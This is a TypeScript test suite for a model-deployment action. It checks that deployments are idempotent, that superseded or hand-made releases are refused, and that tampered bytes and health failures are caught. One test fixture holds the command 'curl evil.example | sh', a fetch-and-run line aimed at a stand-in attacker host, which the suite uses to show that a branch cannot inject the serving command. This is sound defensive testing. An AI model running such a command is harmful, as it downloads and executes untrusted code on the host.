import { beforeEach, describe, expect, test } from "vitest";
import { deploy } from "#actions/deploy/action";
import { folderFiles } from "#adapters/filesystem/files";
import { CONFIG_PATH } from "#core/config/tidemark-config";
import { digestOf } from "#core/digest";
import type { DeployTarget } from "#core/ports/deploy-target";
import type { ObjectStore } from "#core/ports/object-store";
import { printRecord } from "#core/registry/read-record";
import type { ReleaseRecord } from "#core/registry/release-record";
import { runAction } from "#kit/run-action";
import { recordingRunner } from "#test/kit/support/recording-runner";
import { environmentEntry, modelEntry } from "#test/support/builders/config";
import { contentsOf, MODEL } from "#test/support/builders/model";
import { releaseRecord } from "#test/support/builders/release-record";
import { type MemoryTarget, memoryTarget } from "#test/support/fakes/deploy-target";
import { temporaryFolder } from "#test/support/temporary-folder";
import {
  type BotScene,
  botScene,
  configText,
  deploymentOf,
  documents,
  RECORD_PATH,
} from "../bot/reconcile/support/scene.ts";

let scene: BotScene;
let target: MemoryTarget;
let opened: string[];

beforeEach(() => {
  scene = botScene();
  target = memoryTarget();
  opened = [];
  for (const weights of ["champion", "veteran", "evil"]) {
    for (const text of Object.values(contentsOf(weights).model)) {
      scene.store.objects.set(digestOf(text), new TextEncoder().encode(text));
    }
  }
});

const names = (branch: string, record: ReleaseRecord) =>
  scene.world.commit(branch, RECORD_PATH, printRecord(record, documents));

async function asked(record: ReleaseRecord, commit: string): Promise<number> {
  return (await scene.host.deployments.createOnce(deploymentOf(record, commit))).deployment.id;
}

interface Behind {
  readonly store?: ObjectStore;
  readonly target?: DeployTarget;
}

async function run(id: number, behind: Behind = {}) {
  const recording = recordingRunner({ "deployment-id": String(id), "github-token": "t0ken", repository: "ada/models" });
  const files = folderFiles(await temporaryFolder());
  await files.write("model/.keep", "");
  const exitCode = await runAction(deploy, recording.runner, () => ({
    host: scene.host,
    documents,
    openStore: () => behind.store ?? scene.store,
    openTarget: (configured) => {
      opened.push(configured.run);
      return behind.target ?? target;
    },
    files,
    runUrl: undefined,
  }));
  const [newest] = (await scene.host.deployments.get(id)).statuses;
  return { ...recording, exitCode, state: newest?.state, outputs: recording.finishes[0]?.outputs };
}

describe("deploying", () => {
  test("serves the record's version and says which digest answered", async () => {
    const record = releaseRecord();
    const { exitCode, outputs, state, masks } = await run(await asked(record, names("main", record)));
    expect({ exitCode, outputs, state }).toEqual({
      exitCode: 0,
      outputs: { outcome: "serving", digest: record.serving.digest, endpoint: `memory:${MODEL}` },
      state: "success",
    });
    expect(masks).toContain("t0ken");
  });

  test("run again after the runner was lost applies nothing twice", async () => {
    const id = await asked(releaseRecord(), names("main", releaseRecord()));
    await run(id);
    expect(await run(id)).toMatchObject({ exitCode: 0, state: "success" });
    expect(target.applied).toHaveLength(1);
  });

  test("an older generation applies nothing and is no failure (F-38)", async () => {
    const older = releaseRecord({ serving: "veteran", generation: 2 });
    const id = await asked(older, names("main", older));
    names("main", releaseRecord());
    expect(await run(id)).toMatchObject({
      exitCode: 0,
      state: "inactive",
      outputs: { outcome: "superseded", endpoint: "" },
    });
    expect(target.applied).toEqual([]);
  });

  test("a generation that is overtaken while its files are fetched applies nothing (F-51)", async () => {
    const id = await asked(releaseRecord(), names("main", releaseRecord()));
    const get: ObjectStore["get"] = async (digest, file) => {
      await scene.store.get(digest, file);
      names("main", releaseRecord({ serving: "veteran", generation: 4 }));
    };
    expect(await run(id, { store: { ...scene.store, get } })).toMatchObject({ exitCode: 0, state: "inactive" });
    expect(target.applied).toEqual([]);
  });
});

describe("a deployment that somebody made by hand is refused, and nothing is applied", () => {
  const evil = releaseRecord({ serving: "evil", generation: 3 });

  async function refused(id: number): Promise<void> {
    const { exitCode, failures } = await run(id);
    expect(exitCode).toBe(2);
    expect(failures).toHaveLength(1);
    expect(target.applied).toEqual([]);
    expect(opened).toEqual([]);
  }

  test("when it names a commit of a branch that was never merged", async () => {
    names("main", releaseRecord());
    await refused(await asked(evil, names("mine", evil)));
  });

  test("when it names a generation nobody has merged yet", async () => {
    names("main", releaseRecord());
    const later = { ...evil, generation: 999 };
    await refused(await asked(later, names("mine", later)));
  });

  test("when the default branch names nothing", async () => {
    await refused(await asked(evil, names("mine", evil)));
  });

  test("when its payload is of another shape", async () => {
    const wanted = { ...deploymentOf(evil, "main"), payload: { digest: evil.serving.digest } };
    await refused((await scene.host.deployments.createOnce(wanted)).deployment.id);
  });
});

test("the command that serves comes from the default branch, whatever commit the deployment names", async () => {
  names("main", releaseRecord());
  const evil = environmentEntry({ target: { kind: "local", run: "curl evil.example | sh" } });
  names("mine", releaseRecord());
  const commit = scene.world.commit("mine", CONFIG_PATH, configText({ [MODEL]: modelEntry({ environments: [evil] }) }));
  await run(await asked(releaseRecord(), commit));
  expect(opened).toEqual(["npm run serve"]);
});

describe("a deployment fails, in one sentence and on its status", () => {
  test.each<[string, () => Behind]>([
    ["when the server does not come up", () => ({ target: memoryTarget({ isHealthy: async () => false }) })],
    [
      "when other bytes answer (F-56)",
      () => ({ target: { ...target, read: async () => ({ digest: digestOf("other"), ready: true, endpoint: "x" }) } }),
    ],
    ["when nothing answers", () => ({ target: { ...target, read: async () => undefined } })],
    [
      "when it is not ready",
      () => ({
        target: {
          ...target,
          read: async () => ({ digest: releaseRecord().serving.digest, ready: false, endpoint: "x" }),
        },
      }),
    ],
  ])("%s", async (_, behind) => {
    const id = await asked(releaseRecord(), names("main", releaseRecord()));
    const { exitCode, failures, state } = await run(id, behind());
    expect({ exitCode, state }).toEqual({ exitCode: 2, state: "failure" });
    expect(failures).toHaveLength(1);
  });

  test("when the store gives other bytes than the record names, before the target is touched", async () => {
    const id = await asked(releaseRecord(), names("main", releaseRecord()));
    const [file] = releaseRecord().serving.files;
    scene.store.objects.set(file!.digest, new TextEncoder().encode("backdoor"));
    expect(await run(id)).toMatchObject({ exitCode: 2, state: "failure" });
    expect(target.applied).toEqual([]);
  });
});
